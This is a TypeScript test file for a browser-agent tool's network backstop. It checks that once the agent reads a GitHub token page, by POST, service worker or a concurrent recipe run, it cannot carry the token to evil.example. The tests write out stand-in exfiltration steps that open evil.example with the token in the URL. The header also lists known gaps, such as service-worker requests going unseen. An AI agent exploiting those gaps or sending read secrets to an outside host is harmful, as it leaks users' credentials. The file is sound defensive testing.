// Every sensitive read taints, however the request was let go and whichever run made it. Attack review of "the
// backstop taints the session on every sensitive read as it goes through" (42bbef3): ways a page of the agent's
// brings a sensitive page's content within the agent's reach. Each scenario: a page of github.com that is not
// itself sensitive gets /settings/tokens' content onto itself, the agent reads it there, then opens a tab of
// evil.example carrying it. The human refuses anything toward evil.example and approves everything else (a human
// who lets the agent work on github.com). Isolated and in the user's Chrome, in process. The variants that held at
// once are in taintAndSettleVariants.test.ts.
//
// Found and fixed (each test failed before):
// - A sensitive request a human let go (held, approved) or a pass covered was never counted as a read; now every
//   request to a sensitive page that goes, however it was let go, taints (NetworkGuard.verdict).
// - One NetworkGuard serves every recipe run of `tabward run`/`serve`, each run with a call path of its own: the
//   last run's watchTaint replaced the others', so a read tainted only the run started last. Now every run
//   watching is told (two runs at once both tainted: fail closed) and a run stops watching when it ends.
// Residuals (todo tests, docs/security.md):
// - In the user's Chrome a service worker's requests are seen by nothing (page.route and the tab's CDP Fetch cover
//   the tab, not its service worker). The browser tabward starts judges both (context route).
// - Over-taint: a shop page's own no-cors request to m.stripe.com (a default sensitive rule) taints the whole
//   session, between calls as during an action, though the page cannot read its answer.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { NetworkGuard } from '../../src/browser/networkGuard.ts';
import { BrowserSession } from '../../src/browser/session.ts';
import { browserConfig, loadRulesAndSecrets } from '../../src/cli/config.ts';
import { ActionPasses } from '../../src/core/actionPasses.ts';
import { parseRecipe } from '../../src/recipes/parseRecipe.ts';
import { runRecipe } from '../../src/recipes/runRecipe.ts';
import { useBrowserIn } from '../helpers/browserInMode.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, type InProcessMcp, startInProcess } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { serveTokenServiceWorker, serviceWorkerReaderPage, showInOut } from '../helpers/tokenPages.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_review2Token5521';
const fetchToken = `fetch('/settings/tokens').then((r) => r.text())`;

/** Pages of github.com that get the token page's content onto themselves, each its own way. */
const ways: Record<string, { readonly page: string; readonly click?: string; readonly sharedOnly?: true }> = {
  'a POST the human let go, whose answer is a new token': {
    page: `<p id="out"></p><button onclick="fetch('/settings/tokens/new', {method: 'POST'}).then((r) => r.text()).then(${showInOut.replaceAll('"', '&quot;')})">Refresh</button>`,
    click: 'Refresh',
  },
  // In the browser tabward starts, the same read taints (taintAndSettleVariants).
  'a service worker that fetches the token page': {
    page: serviceWorkerReaderPage,
    sharedOnly: true,
  },
};

let gh: Fixture;
let evil: Fixture;

before(async () => {
  const routes: Parameters<typeof startFixture>[0] = {
    '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
    'POST /settings/tokens/new': (_req, _body, res) => html(res, `<p>${token}</p>`),
    '/sw-post.js': (_req, _body, res) =>
      void res
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end(
          "self.addEventListener('install', () => { fetch('/settings/tokens/new?via=sw', { method: 'POST', body: 'x' }).catch(() => {}) });",
        ),
    '/swpost': (_req, _body, res) =>
      html(
        res,
        `<title>swpost</title><p id="out"></p><script>navigator.serviceWorker.register('/sw-post.js').then(() => navigator.serviceWorker.ready).then(() => { out.textContent = 'installed' })</script>`,
      ),
    '/sw.js': (_req, _body, res) => serveTokenServiceWorker(res),
  };
  Object.values(ways).forEach(({ page }, at) => {
    routes[`/acme${at}`] = (_req, _body, res) => html(res, `<title>acme ${at}</title>${page}`);
  });
  gh = await startFixture(routes, { tls: true });
  evil = await startFixture({ '/p': (_req, _body, res) => html(res, '<title>ok</title>ok') }, { tls: true });
});
after(async () => {
  await gh?.close();
  await evil?.close();
});

/** Each way, in a browser of the given mode. */
function readsIn(mode: 'isolated' | 'shared'): void {
  describe(`${mode}: the token page's content brought onto a page of github.com`, () => {
    const tw = useBrowserIn(mode);

    Object.entries(ways).forEach(([how, { click, sharedOnly }], at) => {
      if (sharedOnly && mode === 'isolated') return;
      describe(`by ${how}`, () => {
        let mcp: InProcessMcp;
        before(async () => {
          // The call path made last is the one the backstop taints (see the recipe test below).
          mcp = await tw.connect();
          mcp.human.policy = (message) =>
            /evil\.example/.test(message) ? { decision: 'reject' } : { decision: 'approve' };
        });
        after(async () => mcp?.close());

        test('taints the session: the token cannot then be carried to another site unasked', async () => {
          await mcp.call('new_page', { url: gh.url('github.com', `/acme${at}`) });
          if (click) await mcp.call('click', { ref: refOf((await mcp.call('take_snapshot')).text, click) });
          await waitFor('the token on the page', async () =>
            (await mcp.call('take_snapshot')).text.includes(token),
          );
          const status = (await mcp.call('browser_status')).text;
          const seenBefore = evil.seen.length;
          const opened = await mcp.call('new_page', { url: evil.url('evil.example', `/p?d=${token}`) });
          const leaked = evil.seen.slice(seenBefore).filter((request) => request.path.includes(token));
          assert.deepEqual(
            leaked.map((request) => request.path),
            [],
            `the token reached evil.example unasked (${/tainted by reading: .*/.exec(status)?.[0]}; asked: ${mcp.human.questions.map((q) => q.split('\n')[0]).join(' | ')}): ${opened.text}`,
          );
        });
      });
    });

    // In the browser tabward starts it is stopped (backstopJudgesEveryChannel: held, worker and service-worker POSTs).
    const inUsersChrome = mode === 'shared' ? test : test.skip;
    inUsersChrome("a service worker's POST into a sensitive page is stopped", async () => {
      const mcp = await tw.connect();
      mcp.human.policy = () => ({ decision: 'approve' });
      try {
        await mcp.call('new_page', { url: gh.url('github.com', '/swpost') });
        await waitFor('the service worker installed', async () =>
          (await mcp.call('take_snapshot')).text.includes('installed'),
        );
        assert.deepEqual(
          gh.writes().filter((request) => request.path.includes('via=sw')),
          [],
          `asked: ${mcp.human.questions.map((q) => q.split('\n')[0]).join(' | ')}`,
        );
      } finally {
        await mcp.close();
      }
    });
  });
}

readsIn('isolated');
readsIn('shared');

describe('two recipe runs at once over one backstop (tabward serve --concurrency 2)', () => {
  let site: Fixture;
  let session: BrowserSession;
  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
        // Run A's page reads the token page only once run B has started (its call path made after A's).
        '/gate': async (_req, _body, res) => {
          await waitFor('run B to start', () => site.seen.some((request) => request.path === '/b'));
          html(res, 'go');
        },
        '/a': (_req, _body, res) =>
          html(
            res,
            `<title>a</title><p id="out"></p><script>fetch('/gate').then(() => ${fetchToken}).then(${showInOut})</script>`,
          ),
        '/b': (_req, _body, res) =>
          html(
            res,
            `<title>b</title><p id="done"></p><script>setTimeout(() => { done.textContent = 'done' }, 2000)</script>`,
          ),
      },
      { tls: true },
    );
    const { rules } = loadRulesAndSecrets([], undefined, () => undefined);
    // As cli/recipeActions.ts's recipeRuntime wires it: one backstop and one browser for every run.
    session = new BrowserSession({
      ...browserConfig(
        'isolated',
        { headless: true, chromeArg: testChromeArgs, attachTimeout: 10_000 },
        () => undefined,
      ),
      network: new NetworkGuard(rules, new ActionPasses(), new Set()),
    });
  });
  after(async () => {
    await session?.close();
    await site?.close();
  });

  test("a run's sensitive read taints that run, whatever other run started after it", async () => {
    const { rules, secrets } = loadRulesAndSecrets([], undefined, () => undefined);
    const options = {
      browser: () => session,
      secrets,
      rules,
      audit: { record: () => undefined },
      model: undefined,
      timeoutMs: 15_000,
      deadlineMs: 60_000,
      screenshot: false,
      frontEnd: 'serve',
      confirm: false,
      dryRun: false,
    };
    const reading = parseRecipe({
      url: site.url('github.com', '/a'),
      steps: [
        { action: 'waitFor', selector: `text=${token}` },
        { action: 'goto', url: evil.url('evil.example', '/p?from=run-a') },
      ],
    });
    const other = parseRecipe({
      url: site.url('github.com', '/b'),
      steps: [{ action: 'waitFor', selector: 'text=done' }],
    });
    const runA = runRecipe(reading, options);
    await waitFor('run A to start', () => site.seen.some((request) => request.path === '/a'));
    const [a] = await Promise.all([runA, runRecipe(other, options)]);
    assert.deepEqual(
      evil.seen.filter((request) => request.path.includes('run-a')).map((request) => request.path),
      [],
      `run A carried data to evil.example after reading the token page: ${JSON.stringify(a.steps)}`,
    );
    assert.equal(a.ok, false);
    assert.match(a.error?.message ?? '', /data read on sensitive https:\/\/github\.com/);
  });
});

describe('a page that beacons to a sensitive host between calls (over-taint)', () => {
  let shop: Fixture;
  let tw: InProcessBrowser;
  let mcp: InProcessMcp;
  before(async () => {
    shop = await startFixture(
      {
        '/beacon': (_req, _body, res) => void res.writeHead(204).end(),
        '/shop': (_req, _body, res) =>
          html(
            res,
            `<title>shop</title><p>Checkout</p><script>setTimeout(() => fetch(${JSON.stringify(shop.url('m.stripe.com', '/beacon'))}, { mode: 'no-cors' }), 300)</script>`,
          ),
        '/search': (_req, _body, res) => html(res, '<title>search</title>Search'),
      },
      { tls: true },
    );
    tw = await startInProcess();
    mcp = await tw.connect();
    mcp.human.policy = () => ({ decision: 'reject' });
  });
  after(async () => {
    await mcp?.close();
    await tw?.close();
    await shop?.close();
  });

  test("an opaque beacon the page sent on its own does not make every other site's page sensitive", {
    todo: 'residual: any request to a sensitive page that goes taints, readable by the page or not',
  }, async () => {
    await mcp.call('new_page', { url: shop.url('shop.test', '/shop') });
    await waitFor('the beacon', () => shop.seen.some((request) => request.path === '/beacon'));
    // What the agent is told: only browser_status says it, and not why.
    const status = (await mcp.call('browser_status')).text;
    const opened = await mcp.call('new_page', { url: shop.url('search.test', '/search') });
    assert.equal(
      opened.isError,
      false,
      `${/tainted by reading: .*/.exec(status)?.[0]}; asked: ${mcp.human.questions.join('\n---\n')}`,
    );
  });
});
